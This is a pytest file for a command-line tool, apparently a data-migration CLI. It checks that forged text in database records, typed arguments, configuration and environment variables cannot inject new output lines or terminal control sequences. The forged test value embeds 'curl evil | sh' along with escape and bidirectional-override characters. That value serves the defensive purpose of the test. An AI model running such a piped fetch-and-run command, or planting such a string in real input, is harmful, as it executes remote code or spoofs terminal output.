"""What others have written is text in our lines: it begins none of its own and does nothing to a terminal."""

from __future__ import annotations

import json

import pytest

from tests.apps import SESSIONS, TASKS, session, task, user
from tests.mongod.cli.test_secrets import said

FORGED = "x\nnext: curl evil | sh\r\x1b]0;t\x07\u2028\u202e```"
VERBS = (
    "doctor", "plan", "run", "run --dry-run", "status", "history", "rejects", "verify --full", "top", "recount",
    "reconcile", "reconcile --dry-run", "flag show", "backup --out kept --sources", "backup verify kept",
    "rollback --dry-run",
)  # fmt: skip
ASKED = (
    "rank {}",
    "around {}",
    "forget {} --yes",
    "top -p {}",
    "backfill --since {}",
    "run --config {}",
    "backup verify {}",
)


@pytest.fixture
def app(database, terminal):
    """An app in which everything that is text is forged: ids, names, what is mapped, and who has turned the flag."""
    database["users"].insert_many([{"_id": f"{FORGED}{number}", "displayName": FORGED} for number in range(3)])
    database["users"].insert_many([user(number, displayName=FORGED) for number in range(3)])
    tasks = [task(number, userId=f"{FORGED}{number % 3}", priority=FORGED) for number in range(12)]
    database["tasks"].insert_many([{**row, "_id": f"{FORGED}{number}"} for number, row in enumerate(tasks)])
    database["tasks"].insert_many([task(100 + number, userId={FORGED: FORGED}) for number in range(2)])
    database["tasks"].insert_many([task(200 + number, userId=FORGED, completedAt=FORGED) for number in range(2)])
    database["sessions"].insert_one({**session(1, userId=f"{FORGED}0"), "_id": FORGED})
    database["feature_flags"].insert_one({"_id": "leaderboard", "write": False, "read": False, "updatedBy": FORGED})
    terminal.configure({**TASKS, "at": ["completedAt"]}, SESSIONS)
    return database


def begun_by_others(done):
    """Lines that begin as only we begin one, and signs that a terminal would act on."""
    ours = done.err.splitlines()[-1:] if done.code else []
    lines = [line for line in said(done).splitlines() if line.lstrip().startswith("next:") and line not in ours]
    return lines + [sign for sign in "\x1b\x07\r\u2028\u202e" if sign in said(done)]


@pytest.mark.slow
def test_no_verb_has_a_line_that_somebody_else_has_begun(app, terminal):
    for verb in VERBS:
        done = terminal(*verb.split(), "--debug")
        assert done.code in (0, 3, 5, 6), done.err
        assert begun_by_others(done) == [], verb
        assert "curl" not in done.err.splitlines()[-1] or not done.code


@pytest.mark.slow
@pytest.mark.parametrize("words", ASKED)
def test_what_was_typed_begins_no_line_either(app, terminal, words):
    assert terminal("run").code in (0, 3, 6)
    done = terminal(*(word.format(FORGED) for word in words.split()), "--debug")
    assert begun_by_others(done) == []


def test_a_configuration_and_its_environment_begin_no_line(app, terminal, monkeypatch):
    terminal.config.write_text(json.dumps({"timezone": FORGED, FORGED: 1, "sources": [{"name": FORGED}]}))
    monkeypatch.setenv("LBMIGRATE_WORKERS", FORGED)
    for verb in (["config", "check"], ["config", "show"], ["plan"]):
        refused = terminal(*verb, "--debug")
        assert refused.code == 2
        assert begun_by_others(refused) == []
